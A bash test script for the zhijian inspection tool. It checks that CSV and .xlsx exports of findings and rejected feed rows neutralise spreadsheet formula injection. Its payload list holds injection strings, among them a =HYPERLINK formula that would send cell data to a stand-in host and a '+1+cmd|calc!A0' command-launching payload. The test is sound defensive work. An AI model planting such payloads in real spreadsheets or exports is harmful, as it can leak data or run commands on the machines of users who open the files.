#!/usr/bin/env bash
# export_formula.sh — no export hands a spreadsheet a formula (issue 13): a resident's finding
# whose summary or basis begins with = + - @, a tab or a CR comes out of /api/leads/export and
# `zhijian leads --format csv` as text (prefixed with ' and quoted), and so does a rejected
# feed row in `zhijian rejects --format csv`; a severity outside high/medium/low is refused.
# The .xlsx exports (/api/leads/export.xlsx, `zhijian leads|rejects --format xlsx`) hold every
# cell as a string (no formula), under a frozen header row with Chinese headings.
# Needs: ZJ, ZJ_SOURCE_DIR, curl, python3, sqlite3.
source "$(dirname "$0")/web_lib.bash"
seed_db
start_server
login admin adminpass1
login res1 respass123

expect 201 admin POST /api/inspections '{"kind":"routine","facility_id":"P3201","from":"2025-07-01","to":"2025-07-10","team":false}'
ins=$(body_get "j['inspection_id']")
# each prefix once in the summary, and one in the basis
payloads=('=HYPERLINK(\"http://x.example/?\"&A1,\"点此\")' '+1+cmd|calc!A0' '-2+3' '@SUM(A1:A9)' '\tTAB=1' '\rCR=1' '＝1+1')
for p in "${payloads[@]}"; do
  expect 201 res1 POST "/api/inspections/$ins/findings" "{\"summary\":\"$p\",\"family\":\"custody\",\"severity\":\"high\",\"person_id\":\"R001\"}"
done
expect 201 res1 POST "/api/inspections/$ins/findings" '{"summary":"依据有误","family":"custody","severity":"low","person_id":"R001","basis":"=1+1"}'
# closed vocabularies on input
expect 400 res1 POST "/api/inspections/$ins/findings" '{"summary":"x","family":"custody","severity":"=HYPERLINK(1)","person_id":"R001"}'
expect 400 res1 POST "/api/inspections/$ins/findings" '{"summary":"x","family":"=1","severity":"low","person_id":"R001"}'

# check_csv FILE: every cell of the CSV that a spreadsheet would evaluate is neutralised, and
# the injected cells are there, each beginning with '
check_csv() {
  python3 - "$1" <<'PY'
import csv, re, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8", newline="")))
wide = ("\uff1d", "\uff0b", "\uff0d", "\uff20")
bad = [c for r in rows for c in r
       if c and (c[0] in "=+-@\t\r" or c.startswith(wide)) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", c)]
if bad:
    sys.exit("formula cells: %r" % bad[:5])
cells = [c for r in rows for c in r]
for want in ("'=HYPERLINK(", "'+1+cmd", "'-2+3", "'@SUM(", "'\tTAB=1", "'\rCR=1", "'＝1+1", "'=1+1"):
    if not any(c.startswith(want) for c in cells):
        sys.exit("missing neutralised cell %r" % want)
PY
}
code=$(curl -sS -o "$T/web.csv" -w '%{http_code}' -b "$T/res1.jar" "$BASE/api/leads/export")
[ "$code" = 200 ] || fail "export: HTTP $code"
check_csv "$T/web.csv" || fail "web export"
"$ZJ" leads --db "$DB" --format csv > "$T/cli.csv"
check_csv "$T/cli.csv" || fail "zhijian leads --format csv"

# a rejected feed row: the raw line is echoed in rejects.csv
mkdir "$T/feeds"
printf 'facility_id,name,kind,region_code,designated\n=HYPERLINK("http://x"),a,jail,110105,\nF9,@SUM(1),prison,-1+2,\n' > "$T/feeds/facilities.csv"
"$ZJ" import --db "$T/rej.db" --as-of 2025-06-30 "$T/feeds" >/dev/null 2>&1 || true
"$ZJ" rejects --db "$T/rej.db" --format csv > "$T/rej.csv"
[ "$(wc -l < "$T/rej.csv")" -ge 3 ] || fail "rejects: $(cat "$T/rej.csv")"
python3 - "$T/rej.csv" <<'PY' || fail "rejects --format csv"
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8", newline="")))
raws = [r[5] for r in rows[1:]]
assert any(r.startswith("'=HYPERLINK") for r in raws), raws
assert all(not r or r[0] not in "=+-@\t\r" for r in raws), raws
PY

# check_xlsx FILE TEXT...: no formula cell, a frozen header, and each TEXT in some cell
check_xlsx() {
  python3 - "$@" <<'PY'
import re, sys, zipfile
z = zipfile.ZipFile(sys.argv[1])
sheet = z.read("xl/worksheets/sheet1.xml").decode()
strings = z.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in z.namelist() else ""
if "<f>" in sheet or "<f " in sheet:
    sys.exit("formula in " + sys.argv[1])
if 'state="frozen"' not in sheet:
    sys.exit("no frozen header in " + sys.argv[1])
text = sheet + strings
for want in sys.argv[2:]:
    esc = want.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    if want not in text and esc not in text:
        sys.exit("missing %r in %s" % (want, sys.argv[1]))
PY
}
code=$(curl -sS -o "$T/web.xlsx" -w '%{http_code}' -b "$T/res1.jar" "$BASE/api/leads/export.xlsx")
[ "$code" = 200 ] || fail "export.xlsx: HTTP $code"
check_xlsx "$T/web.xlsx" "线索清单" "严重程度" '=HYPERLINK(' '@SUM(A1:A9)' || fail "web export.xlsx"
"$ZJ" leads --db "$DB" --format xlsx --out "$T/cli.xlsx"
check_xlsx "$T/cli.xlsx" "摘要" '+1+cmd|calc!A0' || fail "zhijian leads --format xlsx"
"$ZJ" rejects --db "$T/rej.db" --format xlsx --out "$T/rej.xlsx"
check_xlsx "$T/rej.xlsx" "导入退回的数据" '=HYPERLINK("http://x"),a,jail,110105,' "类别“jail”无法识别" || fail "rejects --format xlsx"
echo ok
